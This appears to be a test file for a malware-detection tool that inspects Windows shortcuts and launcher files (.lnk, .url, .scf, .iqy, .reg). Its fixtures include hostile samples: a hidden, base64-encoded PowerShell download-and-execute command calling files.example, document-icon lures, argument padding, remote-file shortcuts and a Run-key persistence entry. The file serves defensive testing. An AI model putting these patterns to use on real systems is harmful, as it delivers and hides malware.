import { describe, expect, it } from "vitest";
import { bytes } from "../../test/build/bytes.ts";
import { type LinkSpec, lnk } from "../../test/build/lnk.ts";
import { idsOf, inspect } from "../../test/check.ts";

describe("shell links", () => {
  it("a link to a document has no sign; where it was made is told", async () => {
    const report = await inspect(lnk({ target: "C:\\Users\\a\\plan.docx", machine: "ws-17" }), "plan.lnk");
    expect(report).toMatchObject({
      verdict: "no sign found",
      type: { id: "lnk" },
      details: {
        shortcut: {
          target: "C:\\Users\\a\\plan.docx",
          machineId: "ws-17",
          macAddress: "02:00:5e:10:00:53",
          volumeSerial: "cafe1234",
        },
      },
    });
  });

  it.each([
    ["a program", { target: "C:\\Program Files\\App\\app.exe", args: "--profile work" }, []],
    ["Explorer with a folder", { target: "C:\\Windows\\explorer.exe", args: "/e,C:\\Data" }, []],
    [
      "the command interpreter",
      { target: "C:\\Windows\\System32\\cmd.exe", args: "/c calc.exe" },
      ["lnk-interpreter"],
    ],
    [
      "in the clothes of a document",
      { target: "C:\\Windows\\System32\\cmd.exe", args: "/c x", icon: "C:\\a\\report.pdf" },
      ["lnk-icon-lure", "lnk-interpreter"],
    ],
    [
      "blanks before the arguments",
      { target: "C:\\Windows\\System32\\cmd.exe", args: `${" ".repeat(300)}/c x` },
      ["lnk-interpreter", "lnk-padding"],
    ],
    ["a script", { target: "C:\\Users\\a\\run.js" }, ["lnk-interpreter"]],
    ["a share", { share: "\\\\files.example\\pub\\a.exe" }, ["lnk-remote"]],
  ])("%s", async (_name, spec: LinkSpec, expected) => {
    expect(idsOf(await inspect(lnk(spec), "a.lnk"))).toEqual(expected);
  });

  it("arguments are decoded", async () => {
    const code = Buffer.from(
      "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')",
      "utf16le",
    ).toString("base64");
    const report = await inspect(
      lnk({
        target: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        args: `-w hidden -e ${code}`,
      }),
      "a.lnk",
    );
    expect(idsOf(report)).toEqual(
      expect.arrayContaining(["encoded-command", "lnk-interpreter", "script-download-run", "script-hidden"]),
    );
    expect(report.verdict).toBe("malicious");
  });

  it("what follows the link is told, a cut one is unknown", async () => {
    const whole = lnk({ target: "C:\\a.txt" });
    expect(idsOf(await inspect(bytes(whole, "MZ".repeat(50)), "a.lnk"))).toEqual(["lnk-appended"]);
    expect((await inspect(whole.slice(0, 90), "a.lnk")).verdict).toBe("unknown");
  });
});

describe("texts that open something", () => {
  it.each([
    [
      "web.url",
      "[InternetShortcut]\r\nURL=https://www.example/\r\n",
      "internet-shortcut",
      ["internet-shortcut"],
    ],
    [
      "file.url",
      "[InternetShortcut]\r\nURL=file://files.example/a.exe\r\n",
      "internet-shortcut",
      ["dangerous-link", "internet-shortcut", "internet-shortcut-remote-file"],
    ],
    [
      "icon.scf",
      "[Shell]\r\nCommand=2\r\nIconFile=\\\\files.example\\a.ico\r\n",
      "scf",
      ["internet-shortcut-remote-file"],
    ],
    ["query.iqy", "WEB\n1\nhttps://files.example/q\n", "iqy", ["external-relation-remote"]],
    [
      "run.reg",
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="C:\\\\a.exe"\r\n',
      "reg",
      ["script-persistence"],
    ],
    [
      "set.reg",
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n"a"="b"\r\n',
      "reg",
      [],
    ],
  ])("%s", async (name, text, type, expected) => {
    const report = await inspect(text, name);
    expect(report.type.id).toBe(type);
    expect(idsOf(report)).toEqual(expected);
  });
});
